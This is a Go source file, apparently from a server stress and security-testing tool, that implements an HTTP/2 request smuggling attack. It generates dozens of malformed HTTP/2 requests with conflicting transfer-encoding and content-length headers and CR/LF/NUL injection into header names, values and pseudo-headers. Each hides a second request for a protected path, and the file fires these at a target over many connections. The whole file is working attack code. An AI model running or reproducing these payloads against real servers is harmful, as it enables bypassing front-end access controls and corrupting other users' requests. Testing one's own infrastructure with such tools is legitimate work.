package storm

import (
	"strconv"
	"strings"
)

func http2SmuggleAttacks() []Attack {
	return []Attack{
		{Name: "HTTP/2 smuggling", What: "heads that become two requests when they are written as HTTP/1.1", Unit: "streams",
			Conns: 16, Dials: 100, Rate: 400, Needs: HTTP2, run: smuggleHTTP2},
	}
}

// SmuggledHTTP2 is a request of HTTP/2 that is none, or becomes two of HTTP/1.1 if
// it is written down without a look.
type SmuggledHTTP2 struct {
	Name   string
	Fields []string // name, value, name, value
	Body   string
}

// SmugglingHTTP2 returns the ways to do it (RFC 9113, sections 8.2 and 8.3).
func SmugglingHTTP2(host, sink, hidden string) []SmuggledHTTP2 {
	secret := "GET " + hidden + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n"
	usual := map[string]string{":method": "POST", ":scheme": "https", ":authority": host, ":path": sink}
	var list []SmuggledHTTP2
	// with changes pseudo-fields and adds others.
	with := func(name, body string, changes map[string]string, more ...string) {
		var fields []string
		for _, k := range []string{":method", ":scheme", ":authority", ":path"} {
			v, changed := changes[k]
			if !changed {
				v = usual[k]
			}
			fields = append(fields, k, v)
		}
		list = append(list, SmuggledHTTP2{name, append(fields, more...), body})
	}
	for _, v := range []string{"chunked", "Chunked", "gzip, chunked", "identity", " chunked"} {
		with("transfer-encoding "+v, "0\r\n\r\n"+secret, nil, "transfer-encoding", v)
		with("transfer-encoding and a length "+v, "0\r\n\r\n"+secret, nil, "transfer-encoding", v, "content-length", strconv.Itoa(len(secret)+5))
	}
	for _, v := range []string{"0", "5", "+5", "0x5", "5, 5", "5 5", "", "-1", "99999999999999999999"} {
		with("content-length "+v, secret, nil, "content-length", v)
	}
	with("two lengths", secret, nil, "content-length", "0", "content-length", strconv.Itoa(len(secret)))
	for _, k := range []string{"connection", "keep-alive", "proxy-connection", "upgrade", "transfer-encoding"} {
		with("field of a connection "+k, "", nil, k, "close")
	}
	for _, end := range []string{"\r\n", "\n", "\r", "\x00"} {
		split := end + "Host: " + host + end + end + "GET " + hidden + " HTTP/1.1" + end + "X: y"
		q := strconv.Quote(end)
		with("value with "+q, "", nil, "x-a", "b"+split)
		with("name with "+q, "", nil, "x-a: b"+split, "c")
		with("path with "+q, "", map[string]string{":path": "/ HTTP/1.1" + split})
		with("method with "+q, "", map[string]string{":method": "GET / HTTP/1.1" + split})
		with("authority with "+q, "", map[string]string{":authority": host + split})
		with("scheme with "+q, "", map[string]string{":scheme": "https" + split})
		with("cookie with "+q, "", nil, "cookie", "a=b"+split)
	}
	for _, name := range []string{"X-Upper", "transfer-encoding ", " transfer-encoding", "content-length:", "x y", "", ":unknown", "transfer-encoding: chunked\r\nx", "x\u00e4"} {
		with("name "+strconv.Quote(name), "0\r\n\r\n"+secret, nil, name, "chunked")
	}
	for _, path := range []string{"", "x", "*", hidden + " HTTP/1.1\r\nX:", "/ x", "/\tx", "http://other" + hidden, "//", "/#x"} {
		with("path "+strconv.Quote(path), "", map[string]string{":path": path})
	}
	for _, m := range []string{"", "GET /x HTTP/1.1", "GE T", "CONNECT", "get\x00", strings.Repeat("A", 5000)} {
		with("method "+strconv.Quote(m[:min(len(m), 20)]), "", map[string]string{":method": m})
	}
	with("another host", "", nil, "host", "other")
	with("two hosts", "", nil, "host", host, "host", "other")
	with("user in the authority", "", map[string]string{":authority": "user@" + host})
	return list
}

func smuggleHTTP2(s *storm, c *line) error {
	list := SmugglingHTTP2(s.to.Host, s.to.Sink, s.to.Hidden)
	one := list[c.n%uint64(len(list))]
	h := s.open(c, true)
	for range 5 {
		if !s.may(1) {
			return nil
		}
		n := h.stream()
		h.headers(n, one.Body == "", h.block(one.Fields...))
		if one.Body != "" {
			_ = h.fr.WriteData(n, true, []byte(one.Body))
		}
		h.headers(h.stream(), true, h.request("GET", s.to.Page))
		if err := h.flush(); err != nil {
			return err
		}
		if !s.pause(slowly / 10) {
			return nil
		}
	}
	return nil
}
